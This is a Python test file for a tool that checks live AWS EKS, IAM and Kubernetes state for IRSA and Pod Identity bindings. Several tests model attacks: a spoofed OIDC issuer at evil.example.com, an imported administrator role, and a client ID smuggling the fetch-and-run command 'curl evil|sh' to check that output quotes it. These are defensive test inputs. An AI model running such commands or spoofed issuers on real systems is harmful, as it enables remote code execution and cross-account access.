"""Looking: an AWS API in memory, a cluster that answers what a test says, and the state in place of `pulumi`."""

import json
from collections import Counter
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import boto3
import botocore.client
import pytest
from moto.eks.models import eks_backends

from irsa.rules.commands import ClusterPlace
from irsa.rules.unknown import SECRET
from irsa_program.examine import examine
from irsa_program.live import look, reader
from irsa_program.live.look import LiveReport
from irsa_world.exits import CouldNotLookError, NoPermissionError, NotAuthenticatedError
from irsa_world.live.eks import EksClient
from irsa_world.live.kubeconfig import configuration
from irsa_world.model import EksCluster
from irsa_world.state.resource import resources_of
from tests.unit.irsa_world.live.kubernetes_api import kubeconfig
from tests.unit.program.live.scene import HOST, ROOT, held_association, rules
from tests.world import documented, paged_iam

NUMBER = "123456789012"
TRUST = json.dumps({"Version": "2012-10-17", "Statement": []})
APP = {"serviceAccount": {"name": "app"}, "role": {"name": "app-role"}}
PODS_ALONE = {**APP, "identity": "podIdentity"}
PROVIDER = f"arn:aws:iam::{NUMBER}:oidc-provider/{HOST}"
CLUSTER = {"oidcIssuer": f"https://{HOST}", "oidcProviderArn": PROVIDER}
NAMED = {"cluster": {"name": "my-cluster", "oidcIssuer": f"https://{HOST}"}}
SETTINGS = {"kubernetes:context": "test"}
OF_IAM, OF_EKS = "irsa_world.live.iam.AwsAccountClient.", "irsa_world.live.eks.EksClient."
OF_ACCOUNT = [f"{OF_IAM}{question}" for question in ("listed_roles", "policies", "oidc_providers", "summary")]
NOT_SIGNED_IN, DENIED, GONE = NotAuthenticatedError("401"), NoPermissionError("denied"), CouldNotLookError("gone")


ANSWERS: dict[str, Any] = {
    "namespaces": {"default": False, "kube-system": False},
    "service_accounts": [],
    "pods": [],
    "object_of": None,
}


class Cluster:
    """A cluster with the namespaces `default` and `kube-system`, in the place of its client.

    Attributes:
        errors: What is answered instead, by the name of the question, or to each.
    """

    context, place = "test", ClusterPlace("test")

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.errors: dict[str, Exception] = {}
        self.of_tokens = f"https://{HOST}"

    def answer(self, question: str, answer: Any) -> Any:
        self.asked.append(question)
        if error := self.errors.get(question) or self.errors.get("each"):
            raise error
        return answer

    @property
    def issuer(self) -> Any:
        return self.answer("issuer", self.of_tokens)

    def __getattr__(self, question: str) -> Any:
        return lambda *_: self.answer(question, ANSWERS[question])


@pytest.fixture
def kubernetes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Cluster:
    (tmp_path / "kubeconfig").write_text(json.dumps(kubeconfig("http://127.0.0.1:1")))
    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "kubeconfig"))
    cluster = Cluster()
    monkeypatch.setattr(reader, "ClusterClient", lambda inputs: configuration(inputs) and cluster)
    return cluster


@pytest.fixture
def iam(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    monkeypatch.delenv("IRSA_SANDBOX", raising=False)
    with paged_iam(monkeypatch, 100) as client:
        client.create_open_id_connect_provider(Url=f"https://{HOST}", ClientIDList=["sts.amazonaws.com"])
        yield client


@pytest.fixture
def eks(pod_identity: None, iam: Any) -> Any:
    """EKS with a cluster, of the issuer that moto would choose, and the add-on of EKS Pod Identity."""
    client = boto3.client("eks")
    client.create_cluster(name="my-cluster", roleArn=f"arn:aws:iam::{NUMBER}:role/cluster", resourcesVpcConfig={})
    identity = {"oidc": {"issuer": f"https://{HOST}"}}
    eks_backends[NUMBER]["us-west-2"].clusters["my-cluster"].identity = identity
    client.create_addon(clusterName="my-cluster", addonName="eks-pod-identity-agent")
    return client


@pytest.fixture
def calls(monkeypatch: pytest.MonkeyPatch) -> Counter[str]:
    counted: Counter[str] = Counter()
    send = getattr(botocore.client.BaseClient, "_make_api_call")  # noqa: B009 (the stubs lack it)

    def counting(self: Any, operation: str, parameters: Any) -> Any:
        counted[f"{self.meta.service_model.service_name}:{operation}"] += 1
        return send(self, operation, parameters)

    monkeypatch.setattr(botocore.client.BaseClient, "_make_api_call", counting)
    return counted


@pytest.fixture(autouse=True)
def state(monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    exported: dict[str, Any] = {"deployment": {"resources": []}}
    monkeypatch.setattr(look, "exported_state", lambda *_: resources_of(exported))
    return exported


def looked(values: Mapping[str, Any], settings: Mapping[str, Any] = SETTINGS) -> LiveReport:
    where = {} if {"cluster", "clusters"} & values.keys() else {"cluster": CLUSTER}
    return look.look(examine({**where, **values}, ROOT), "prod", ROOT, settings, "us-west-2")


def raising(error: Exception) -> Any:
    def ask(*_: Any) -> Any:
        raise error

    return ask


def described(monkeypatch: pytest.MonkeyPatch, **description: Any) -> None:
    monkeypatch.setattr(EksClient, "cluster", lambda *_: EksCluster.of({"status": "ACTIVE", **description}))


def test_what_is_asked_is_what_the_documented_policy_allows(
    eks: Any, iam: Any, kubernetes: Cluster, calls: Counter[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    calls.clear()
    looked({"bindings": {"app": APP}})
    looked({"cluster": {**CLUSTER, "name": "my-cluster"}, "bindings": {"app": {**APP, "identity": "both"}}})

    # STS needs no permission for it.
    assert {*calls} - {"sts:GetCallerIdentity"} == documented("iam-check-live.json")


def test_pod_identity_alone_needs_no_oidc_provider(
    eks: Any, iam: Any, kubernetes: Cluster, calls: Counter[str], state: dict[str, Any]
) -> None:
    iam.delete_open_id_connect_provider(OpenIDConnectProviderArn=PROVIDER)
    asked = []
    for number, holds in ((1, False), (40, False), (1, True)):
        calls.clear()
        bindings = {
            f"app-{index}": {**PODS_ALONE, "serviceAccount": {"name": f"app-{index}"}, "role": {"name": f"app-{index}"}}
            for index in range(number)
        }
        state["deployment"]["resources"] = [held_association(f"default/app-0@{HOST}", "a-1")] if holds else []
        assert looked({**NAMED, "bindings": bindings}) == LiveReport([], [], [], True)
        asked.append({action: count for action, count in calls.items() if not action.startswith("iam:")})

    once = dict.fromkeys(("sts:GetCallerIdentity", "eks:DescribeCluster", "eks:DescribeAddon"), 1)
    listed = {**once, "eks:ListPodIdentityAssociations": 1}
    assert asked == [listed, listed, once]
    assert calls["iam:GetOpenIDConnectProvider"] == 0
    assert "pods" not in kubernetes.asked


def test_auto_mode_has_the_agent(eks: Any, kubernetes: Cluster, monkeypatch: pytest.MonkeyPatch) -> None:
    """There it is no add-on: https://docs.aws.amazon.com/eks/latest/userguide/pod-id-agent-setup.html."""
    eks.delete_addon(clusterName="my-cluster", addonName="eks-pod-identity-agent")
    arn = f"arn:aws:eks:us-west-2:{NUMBER}:cluster/my-cluster"
    described(monkeypatch, arn=arn, computeConfig={"enabled": True})

    assert looked({**NAMED, "bindings": {"app": PODS_ALONE}}) == LiveReport([], [], [], True)
    # It is an answer, where every other one is denied.
    kubernetes.errors["each"] = DENIED
    for question in (*OF_ACCOUNT, f"{OF_EKS}listed"):
        monkeypatch.setattr(question, raising(DENIED))
    report = looked({**NAMED, "bindings": {"app": PODS_ALONE}})
    assert (report.mistakes, report.has_looked) == ([], True)
    report = looked({"bindings": {"app": APP}})
    assert (report.mistakes, report.has_looked) == ([], False)
    assert "cluster test, namespaces: denied" in report.not_checked


@pytest.mark.parametrize(
    ("status", "settings", "lacks", "fix"),
    [
        ("ACTIVE", {}, "OIDC issuer", "set its oidcIssuer"),
        ("FAILED", {}, "OIDC issuer", "name another cluster"),
        ("CREATING", {**CLUSTER, "kubernetes": {"eks": True}}, "certificate authority", "wait for it: "),
    ],
)
@pytest.mark.usefixtures("eks", "kubernetes")
def test_a_cluster_that_is_not_ready(
    monkeypatch: pytest.MonkeyPatch, status: str, settings: Any, lacks: str, fix: str
) -> None:
    """Status: https://docs.aws.amazon.com/eks/latest/APIReference/API_Cluster.html."""
    described(monkeypatch, status=status)
    (mistake,) = looked({"cluster": {"name": "my-cluster", **settings}, "bindings": {"app": APP}}).mistakes

    assert rules([mistake]) == [("cluster-unreachable", "cluster.name")]
    assert mistake.mistake.found.endswith(f"has no {lacks}")
    assert mistake.mistake.fix.startswith(fix)


@pytest.mark.parametrize("identity", ["both", "podIdentity"])
def test_an_issuer_that_is_not_the_clusters(eks: Any, kubernetes: Cluster, identity: str) -> None:
    """The attack: by its name it is the cluster, and by its issuer somebody else's, whose tokens the role would trust.

    EKS has both: https://docs.aws.amazon.com/eks/latest/APIReference/API_Cluster.html
    """
    evil = {"name": "my-cluster", "oidcIssuer": "https://evil.example.com", "createOidcProvider": True}
    kubernetes.of_tokens = "https://evil.example.com"
    report = looked({"cluster": evil, "bindings": {"app": {**APP, "identity": identity}}})

    assert rules(report.mistakes) == [("wrong-cluster", "cluster.oidcIssuer")]
    assert HOST in report.mistakes[0].mistake.found


@pytest.mark.parametrize("error", [DENIED, GONE])
@pytest.mark.parametrize(
    ("question", "not_checked"),
    [
        (OF_ACCOUNT[0], f"AWS account {NUMBER}, names of roles"),
        (f"{OF_EKS}listed", "EKS cluster my-cluster, associations"),
        (f"{OF_EKS}addon_status", "EKS cluster my-cluster, its add-on of EKS Pod Identity"),
        ("issuer", "cluster test, its issuer"),
        ("service_accounts", "cluster test, service accounts"),
    ],
)
@pytest.mark.usefixtures("eks")
def test_a_question_without_an_answer_is_not_checked(
    kubernetes: Cluster, monkeypatch: pytest.MonkeyPatch, error: Any, question: str, not_checked: str
) -> None:
    kubernetes.errors[question] = error
    if "." in question:
        monkeypatch.setattr(question, raising(error))
    report = looked({**NAMED, "bindings": {"app": PODS_ALONE}})

    assert report == LiveReport([], [], [f"{not_checked}: {error}"], error is DENIED)


def test_what_is_imported_is_left_to_the_preview(iam: Any, kubernetes: Cluster) -> None:
    """The attack: `import` and the name of an administrator's role, which a green check would recommend."""
    iam.create_role(RoleName="app-role", AssumeRolePolicyDocument=TRUST)
    report = looked({"bindings": {"app": {**APP, "import": ["role"]}}})

    not_checked = "what is imported, which `pulumi preview` compares with what is declared: app"
    assert report == LiveReport([], [], [not_checked], True)


def test_a_cluster_that_is_not_reached_hides_nothing_of_aws(iam: Any, kubernetes: Cluster) -> None:
    iam.create_role(RoleName="app-role", AssumeRolePolicyDocument=TRUST)
    for answer, rule in (("https://other.example.com", "wrong-cluster"), (f"https://{HOST}", "cluster-unreachable")):
        kubernetes.of_tokens = answer
        kubernetes.errors = {"namespaces": GONE} if rule == "cluster-unreachable" else {}
        expected = [(rule, "cluster"), ("role-exists", "bindings.app.role.name")]
        assert rules(looked({"bindings": {"app": APP}}).mistakes) == expected


def test_a_state_that_cannot_be_read(iam: Any, kubernetes: Cluster, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(look, "exported_state", raising(CouldNotLookError("pulumi is not on PATH")))
    iam.create_role(RoleName="app-role", AssumeRolePolicyDocument=TRUST)
    report = looked({"bindings": {"app": APP}})

    assert report.mistakes == []
    assert report.not_checked == ["the stack's state, so that what exists may be its own: pulumi is not on PATH"]


@pytest.mark.parametrize(
    ("values", "settings", "reason"),
    [
        ({"sandbox": True}, {}, "`make up`"),
        ({}, {"aws:accessKey": "AKIA"}, "irsa does not use aws:accessKey"),
        ({}, {"aws:allowedAccountIds": SECRET}, "aws:allowedAccountIds: a secret"),
        ({}, {"aws:assumeRoles": SECRET}, "aws:assumeRoles: a secret"),
        ({}, {"aws:profile": SECRET}, "aws:profile: a secret"),
        ({}, {"kubernetes:context": SECRET}, "kubernetes:context: a secret"),
    ],
)
@pytest.mark.usefixtures("iam")
def test_a_stack_that_nothing_is_asked_of(
    kubernetes: Cluster, calls: Counter[str], values: Any, settings: Any, reason: str
) -> None:
    report = looked({**values, "bindings": {"app": APP}}, {**SETTINGS, **settings})

    assert (report.mistakes, report.has_looked, calls, kubernetes.asked) == ([], False, {}, [])
    assert reason in report.not_checked[0]


def test_a_kubeconfig_that_cannot_be_read(iam: Any, kubernetes: Cluster, tmp_path: Path) -> None:
    (tmp_path / "kubeconfig").write_text("clusters: [")
    (mistake,) = looked({"bindings": {"app": APP}}).mistakes

    assert mistake.rule == "context-missing"
    assert "not YAML" in mistake.mistake.found
    # When the cluster answers, nothing is better.
    assert mistake.mistake.fix.startswith("correct it, or write it again: aws eks update-kubeconfig")


def test_a_cluster_whose_kubeconfig_is_a_secret(iam: Any, kubernetes: Cluster) -> None:
    report = looked({"bindings": {"app": APP}}, {"kubernetes:kubeconfig": SECRET})

    assert report == LiveReport([], [], ["the cluster of irsa:cluster: its kubeconfig is a secret"], False)


def test_the_audiences_that_a_provider_lists_are_quoted(
    iam: Any, kubernetes: Cluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attack: a client ID, which is any text, passes for a line of ours."""
    monkeypatch.setattr(f"{OF_IAM}client_ids", lambda *_: ["sts.amazonaws.com", "a  do: curl evil|sh"])
    report = looked({"bindings": {"app": {**APP, "audience": "theirs"}}})
    (found,) = [each.mistake.found for each in report.mistakes if each.rule == "audience-missing"]
    assert found.endswith('it lists: sts.amazonaws.com, "a  do: curl evil|sh"')
